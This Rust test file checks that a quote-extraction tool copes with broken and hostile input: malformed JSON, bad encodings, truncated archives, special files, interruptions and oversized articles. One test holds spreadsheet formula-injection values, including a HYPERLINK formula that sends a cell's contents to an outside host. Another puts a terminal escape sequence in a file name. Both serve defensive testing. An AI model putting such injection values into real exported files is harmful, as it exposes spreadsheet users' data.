//! Hostile and broken input: a corpus with every kind of breakage mixed in. Nothing panics or
//! hangs, every record is accounted for (records read = articles ok + rejected, per file), and
//! every span written slices back to its text.

use crate::util::{extract, read_jsonl, run_json, stderr};

const GOOD: &str = "“We will not agree to any of it,” the minister said.";

#[test]
fn every_kind_of_breakage_is_accounted_for() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    std::fs::create_dir_all(corpus.join("sub")).unwrap();
    let good_line = |id: &str| format!("{}\n", serde_json::json!({"id": id, "text": GOOD}));

    // Invalid JSON, invalid UTF-8 inside a JSON string, a raw NUL byte and an escaped one.
    let mut jsonl = Vec::new();
    jsonl.extend(good_line("j1").as_bytes());
    jsonl.extend(b"{\"id\": \"j2\", \"text\": \"unterminated\n");
    jsonl.extend(b"{\"id\": \"j3\", \"text\": \"bad \xc3\x28 bytes\"}\n");
    jsonl.extend(b"{\"id\": \"j4\", \"text\": \"raw \x00 nul\"}\n");
    jsonl.extend(b"{\"id\": \"j5\", \"text\": \"escaped \\u0000 nul and \\u201cquote\\u201d\"}\n");
    std::fs::write(corpus.join("a.jsonl"), &jsonl).unwrap();

    // A 50 MB single article and a 10 MB line with no newline at the end.
    // (Statements every 1.5 KB or so: fewer than an article's limit of 100,000.)
    let filler = "The talks went on for hours in the capital, and the delegations left late. ".repeat(20);
    let paragraph = format!("{GOOD} Lavrov said the plan was “a path to nowhere.” {filler}\n\n");
    let big: String = paragraph.repeat(50_000_000 / paragraph.len());
    std::fs::write(corpus.join("b-big.jsonl"), serde_json::json!({"id": "big", "text": big}).to_string() + "\n")
        .unwrap();
    let long: String = "word “quote ".repeat(10_000_000 / 12);
    std::fs::write(corpus.join("c-long.jsonl"), serde_json::json!({"id": "long", "text": long}).to_string()).unwrap();

    // An empty file, a binary file named .txt, invalid UTF-8 in a .txt, a valid .txt.
    std::fs::write(corpus.join("d-empty.jsonl"), b"").unwrap();
    std::fs::write(corpus.join("e-binary.txt"), [0u8, 159, 146, 150, 0, 1, 2]).unwrap();
    std::fs::write(corpus.join("f-latin1.txt"), b"Caf\xe9 \xabau lait\xbb").unwrap();
    std::fs::write(corpus.join("g-ok.txt"), GOOD).unwrap();

    // A gzip file cut short.
    let gz = crate::util::gzip(&(0..300).map(|i| good_line(&format!("gz{i}"))).collect::<String>());
    std::fs::write(corpus.join("h-cut.jsonl.gz"), &gz[..gz.len() / 2]).unwrap();

    // CSV with a wrong field count and a quoted field spanning lines.
    std::fs::write(
        corpus.join("i.csv"),
        format!(
            "id,text\nc1,\"{}\"\nc2,too,many\nc3,\"line one\n\n“line two,” she said, “and three.”\"\n",
            GOOD.replace('"', "\"\"")
        ),
    )
    .unwrap();

    // Every Unicode quote mark, unbalanced.
    let marks = "\" “ ” „ ‟ « » ‘ ’ ‚ ‛ ‹ › 「 」 『 』 ＂";
    let unbalanced = format!("{marks}\n\n“Never closed {marks} she said\n\n» « ” “ „\n\n{GOOD}");
    std::fs::write(
        corpus.join("j-marks.jsonl"),
        serde_json::json!({"id": "marks", "text": unbalanced}).to_string() + "\n",
    )
    .unwrap();

    // A folder with a broken link, a named pipe, and a file no one may read.
    std::os::unix::fs::symlink(corpus.join("missing.jsonl"), corpus.join("sub/broken.jsonl")).unwrap();
    let fifo = std::ffi::CString::new(corpus.join("sub/pipe.jsonl").to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    let locked = corpus.join("sub/locked.jsonl");
    std::fs::write(&locked, good_line("locked")).unwrap();
    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o000)).unwrap();

    let out = dir.path().join("out");
    let started = std::time::Instant::now();
    let output = extract(&[&corpus], &out, &["--format", "jsonl"]);
    assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
    assert!(started.elapsed().as_secs() < 120, "took {:?}", started.elapsed());

    let run = run_json(&out);
    let counts = &run["counts"];
    let sum = |c: &serde_json::Value| c["articles_ok"].as_u64().unwrap() + c["rejected"].as_u64().unwrap();
    assert_eq!(counts["records_read"].as_u64().unwrap(), sum(counts), "{run}");
    for file in run["files"].as_array().unwrap() {
        assert_eq!(file["records_read"].as_u64().unwrap(), sum(file), "{file}");
    }
    let rejects = read_jsonl(&out.join("rejects.jsonl"));
    let reason_of = |needle: &str| -> String {
        rejects
            .iter()
            .find(|r| r["file"].as_str().unwrap().contains(needle))
            .map(|r| r["reason"].as_str().unwrap().to_string())
            .unwrap_or_else(|| panic!("no reject for {needle}: {rejects:?}"))
    };
    assert!(reason_of("e-binary.txt").contains("NUL"));
    assert!(reason_of("f-latin1.txt").contains("invalid UTF-8"));
    assert!(reason_of("h-cut.jsonl.gz").contains("read error"));
    assert!(reason_of("broken.jsonl").contains("cannot read"));
    assert!(reason_of("pipe.jsonl").contains("not a regular file"));
    assert!(reason_of("i.csv").contains("wrong number of fields"));
    let jsonl_reasons: Vec<_> = rejects
        .iter()
        .filter(|r| r["file"].as_str().unwrap().ends_with("a.jsonl"))
        .map(|r| r["article_id"].clone())
        .collect();
    assert_eq!(jsonl_reasons, ["j2", "j3", "j4"]);

    // Every row's spans slice its article's text.
    let articles = read_jsonl(&out.join("articles.jsonl"));
    let ids: Vec<&str> = articles.iter().map(|a| a["article_id"].as_str().unwrap()).collect();
    for id in ["j1", "j5", "big", "long", "g-ok", "c1", "c3", "marks"] {
        assert!(ids.contains(&id), "{id} missing from {ids:?}");
    }
    let texts: std::collections::HashMap<&str, Vec<char>> =
        [("marks", &unbalanced), ("g-ok", &GOOD.to_string()), ("big", &big)]
            .into_iter()
            .map(|(id, text)| (id, text.chars().collect()))
            .collect();
    let quotes = read_jsonl(&out.join("quotes.jsonl"));
    for quote in &quotes {
        let Some(chars) = texts.get(quote["article_id"].as_str().unwrap()) else { continue };
        let (start, end) =
            (quote["quote_start"].as_u64().unwrap() as usize, quote["quote_end"].as_u64().unwrap() as usize);
        assert!(start <= end && end <= chars.len());
        assert_eq!(chars[start..end].iter().collect::<String>(), quote["quote_text"].as_str().unwrap());
    }
    assert!(quotes.iter().filter(|q| q["article_id"] == "big").count() >= 50_000);
    assert!(quotes
        .iter()
        .any(|q| q["article_id"] == "marks" && q["quote_text"] == "“We will not agree to any of it,”"));
}

/// A spreadsheet opening the CSV tables shows a cell that begins as a formula ("=1+1",
/// "=HYPERLINK(…)", "@…") as text: it is written behind a `'`. Parquet and JSON Lines keep the
/// exact text, and `--csv-keep-formulas` writes the CSV as it is.
#[test]
fn csv_cells_that_read_as_formulas_are_written_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("a.jsonl");
    let title = "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")";
    let record = serde_json::json!({"id": "=1+1", "title": title, "url": "@evil", "text": GOOD});
    std::fs::write(&input, record.to_string() + "\n").unwrap();

    let out = dir.path().join("out");
    let output = extract(&[&input], &out, &["--format", "csv,jsonl"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let rows = |path: &std::path::Path| -> Vec<csv::StringRecord> {
        csv::Reader::from_path(path).unwrap().records().map(Result::unwrap).collect()
    };
    let headers = csv::Reader::from_path(out.join("quotes.csv")).unwrap().headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let quotes = rows(&out.join("quotes.csv"));
    assert_eq!(quotes.len(), 1);
    assert_eq!(&quotes[0][column("article_id")], "'=1+1");
    assert_eq!(quotes[0][column("title")], format!("'{title}"));
    assert_eq!(&quotes[0][column("url")], "'@evil");
    // The text and the numbers are as they were.
    assert_eq!(&quotes[0][column("speaker_name")], "");
    assert!(quotes[0][column("quote_text")].starts_with('“'));
    let json = read_jsonl(&out.join("quotes.jsonl"));
    assert_eq!(json[0]["article_id"], "=1+1");
    assert_eq!(json[0]["title"], title);

    let raw = dir.path().join("raw");
    let output = extract(&[&input], &raw, &["--format", "csv", "--csv-keep-formulas"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let quotes = rows(&raw.join("quotes.csv"));
    assert_eq!(&quotes[0][column("article_id")], "=1+1");
    assert_eq!(quotes[0][column("title")], *title);
}

/// A full log disk (standard error on /dev/full) loses the log lines, counted in `run.json`,
/// not the run: it exits 0 with its tables (it panicked before writing `run.json`).
#[test]
fn a_log_that_cannot_be_written_loses_its_lines_not_the_run() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("a.jsonl");
    std::fs::write(&input, serde_json::json!({"id": "a", "text": GOOD}).to_string() + "\n").unwrap();
    let out = dir.path().join("out");
    let Ok(full) = std::fs::OpenOptions::new().write(true).open("/dev/full") else { return };
    let status = crate::util::bin()
        .args(["extract", "--format", "csv"])
        .arg(&input)
        .arg("--out")
        .arg(&out)
        .stderr(full)
        .status()
        .unwrap();
    assert!(status.success(), "{status}");
    let report = run_json(&out);
    assert_eq!(report["counts"]["quotes"], 1);
    assert!(report["log_lines_lost"].as_u64().unwrap() >= 1, "{report}");
}

/// A file name's control characters are escaped in the error line, not sent to the terminal.
#[test]
fn control_characters_in_a_log_line_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("red\x1b[31m.jsonl");
    let output = extract(&[&missing], &dir.path().join("out"), &[]);
    assert!(!output.status.success());
    let err = stderr(&output);
    assert!(!err.contains('\x1b') && err.contains("red\\u{1b}[31m.jsonl"), "{err}");
}

/// A table run writes only what is new or an earlier run's (its run.json's `written`): a user's
/// own `quotes.csv` or `run.json` in the output folder is refused, not overwritten (unless
/// --force), and an earlier run's table in a format no longer asked for is removed.
#[test]
fn a_table_run_overwrites_only_what_an_earlier_run_wrote() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("a.jsonl");
    std::fs::write(&input, serde_json::json!({"id": "a", "text": GOOD}).to_string() + "\n").unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(out.join("quotes.csv"), "my own notes\n").unwrap();
    let output = extract(&[&input], &out, &["--format", "csv"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(stderr(&output).contains("quotes.csv") && stderr(&output).contains("--force"), "{}", stderr(&output));
    assert_eq!(std::fs::read_to_string(out.join("quotes.csv")).unwrap(), "my own notes\n");
    assert!(!out.join("run.json").exists());

    // A run.json of the user's is no manifest: refused too.
    std::fs::remove_file(out.join("quotes.csv")).unwrap();
    std::fs::write(out.join("run.json"), "{\"mine\": true}").unwrap();
    let output = extract(&[&input], &out, &["--format", "csv"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_eq!(std::fs::read_to_string(out.join("run.json")).unwrap(), "{\"mine\": true}");
    let output = extract(&[&input], &out, &["--format", "csv", "--force"]);
    assert!(output.status.success(), "{}", stderr(&output));

    // Parquet and CSV, then CSV only: the earlier Parquet tables go, the user's file stays.
    std::fs::write(out.join("notes.txt"), "mine").unwrap();
    let output = extract(&[&input], &out, &["--format", "parquet,csv"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(out.join("quotes.parquet").exists());
    let output = extract(&[&input], &out, &["--format", "csv"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(!out.join("quotes.parquet").exists() && !out.join("articles.parquet").exists());
    assert!(out.join("quotes.csv").exists() && out.join("notes.txt").exists());
    assert_eq!(run_json(&out)["written"][0], "quotes.csv");

    // A run killed after renaming its tables, before its run.json: what it was publishing is
    // on record, so the next run overwrites those tables without --force.
    std::fs::remove_file(out.join("run.json")).unwrap();
    std::fs::write(
        out.join(".whosaid-publishing.json"),
        "[\"quotes.csv\", \"articles.csv\", \"speakers.csv\", \"rejects.jsonl\", \"run.json\"]",
    )
    .unwrap();
    let output = extract(&[&input], &out, &["--format", "csv"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(!out.join(".whosaid-publishing.json").exists());
}

/// A run never writes into its input: a rejects file that is an input (it truncated the input
/// to nothing), or an output folder inside an input folder (the next run read the tables).
#[test]
fn a_run_never_writes_into_its_input() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    std::fs::create_dir_all(&corpus).unwrap();
    let input = corpus.join("a.jsonl");
    let line = serde_json::json!({"id": "a", "text": GOOD}).to_string() + "\n";
    std::fs::write(&input, &line).unwrap();
    let output = crate::util::bin()
        .args(["extract", "--out", "-", "--format", "jsonl", "--rejects"])
        .arg(&input)
        .arg(&input)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_eq!(std::fs::read_to_string(&input).unwrap(), line);
    for out in [corpus.clone(), corpus.join("tables")] {
        let output = extract(&[&corpus], &out, &["--format", "csv"]);
        assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
        assert!(stderr(&output).contains("inside the input folder"), "{}", stderr(&output));
    }
    // A relative output folder under the working folder that is the input.
    let output = crate::util::bin()
        .args(["extract", ".", "--out", "res", "--quiet", "--format", "csv"])
        .current_dir(&corpus)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_eq!(std::fs::read_dir(&corpus).unwrap().count(), 1);
}

/// Two table runs into one folder at once: the second waits for nothing and is refused, so the
/// tables are never one run's quotes beside the other's articles.
#[test]
fn a_table_run_locks_its_output_folder() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    let lock =
        std::fs::File::options().create(true).truncate(false).write(true).open(out.join(".whosaid-lock")).unwrap();
    lock.try_lock().unwrap();
    let input = dir.path().join("a.jsonl");
    std::fs::write(&input, serde_json::json!({"id": "a", "text": GOOD}).to_string() + "\n").unwrap();
    let output = extract(&[&input], &out, &["--format", "csv"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(stderr(&output).contains("holds the lock"), "{}", stderr(&output));
    assert!(!out.join("quotes.csv").exists());
}

/// SIGTERM in the middle of a table run: it stops at the next batch, exits 130, and leaves no
/// temporary file and no table (it left 130 MB of `.tmp-PID` files forever).
#[test]
fn a_run_told_to_stop_leaves_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("a.jsonl");
    let lines: String = (0..200_000).map(|i| serde_json::json!({"id": i, "text": GOOD}).to_string() + "\n").collect();
    std::fs::write(&input, lines).unwrap();
    let out = dir.path().join("out");
    let mut child = crate::util::bin()
        .args(["extract", "--quiet", "--threads", "1", "--format", "csv,parquet", "--out"])
        .arg(&out)
        .arg(&input)
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let temporary = |out: &std::path::Path| {
        std::fs::read_dir(out).is_ok_and(|d| d.flatten().any(|e| e.file_name().to_string_lossy().contains(".tmp-")))
    };
    let started = std::time::Instant::now();
    while !temporary(&out) {
        assert!(started.elapsed().as_secs() < 30, "no temporary file appeared");
        if child.try_wait().unwrap().is_some() {
            return; // finished before it could be stopped: nothing to test on this machine
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    // SAFETY: a plain kill(2) of our own child.
    assert_eq!(unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) }, 0);
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130), "{status}");
    assert!(
        !temporary(&out),
        "{:?}",
        std::fs::read_dir(&out).unwrap().flatten().map(|e| e.file_name()).collect::<Vec<_>>()
    );
    assert!(!out.join("quotes.csv").exists() && !out.join("run.json").exists());
}

/// An article of more statements than the limit (100,000) is a reject, its rows dropped, in a
/// table run and in an incremental one, whose state forgets it: the next run takes it again,
/// and the state and its output still agree.
#[test]
fn an_article_of_too_many_statements_is_a_reject() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("a.jsonl");
    // (Two quotes around "he said" are one statement.)
    let crowded = "“Yes,” he said. ".repeat(200_004);
    let lines =
        [serde_json::json!({"id": "crowded", "text": crowded}), serde_json::json!({"id": "fine", "text": GOOD})];
    std::fs::write(&input, lines.iter().map(|l| l.to_string() + "\n").collect::<String>()).unwrap();
    let out = dir.path().join("out");
    let output = extract(&[&input], &out, &["--format", "jsonl"]);
    assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
    let articles: Vec<String> =
        read_jsonl(&out.join("articles.jsonl")).iter().map(|a| a["article_id"].as_str().unwrap().to_string()).collect();
    assert_eq!(articles, ["fine"]);
    let rejects = read_jsonl(&out.join("rejects.jsonl"));
    assert_eq!(rejects[0]["article_id"], "crowded");
    assert!(rejects[0]["reason"].as_str().unwrap().contains("over the limit of 100000"), "{rejects:?}");
    assert_eq!(run_json(&out)["counts"]["rejected"], 1);

    let (nightly, state) = (dir.path().join("nightly"), dir.path().join("state"));
    for _ in 0..2 {
        let output = crate::util::bin()
            .args(["extract", "--quiet", "--format", "jsonl", "--out"])
            .arg(&nightly)
            .arg("--state")
            .arg(&state)
            .arg(&input)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
        assert_eq!(run_json(&nightly)["counts"]["rejected"], 1, "{}", run_json(&nightly));
    }
}

/// An article whose rows would repeat its metadata more than `max_record_mb` over is a reject:
/// 2 KB of title and 8 KB of url on 1,000 statements is 10 MB of repeats, over a 1 MB limit.
#[test]
fn an_article_whose_rows_would_repeat_too_much_metadata_is_a_reject() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("a.jsonl");
    let wide = serde_json::json!({
        "id": "wide",
        "title": "t".repeat(2000),
        "url": format!("https://example.com/{}", "u".repeat(8000)),
        "text": "“Yes,” he said. “No,” she said. ".repeat(1000),
    });
    let narrow = serde_json::json!({"id": "narrow", "title": "A title", "text": "“Yes,” he said. “No,” she said. ".repeat(1000)});
    std::fs::write(&input, format!("{wide}\n{narrow}\n")).unwrap();
    let out = dir.path().join("out");
    let output = extract(&[&input], &out, &["--format", "csv", "--max-record-mb", "1"]);
    assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
    let rejects = read_jsonl(&out.join("rejects.jsonl"));
    assert_eq!(rejects.len(), 1, "{rejects:?}");
    assert_eq!(rejects[0]["article_id"], "wide");
    assert!(rejects[0]["reason"].as_str().unwrap().contains("repeat its"), "{rejects:?}");
    assert!(std::fs::metadata(out.join("quotes.csv")).unwrap().len() < 1 << 20);
}
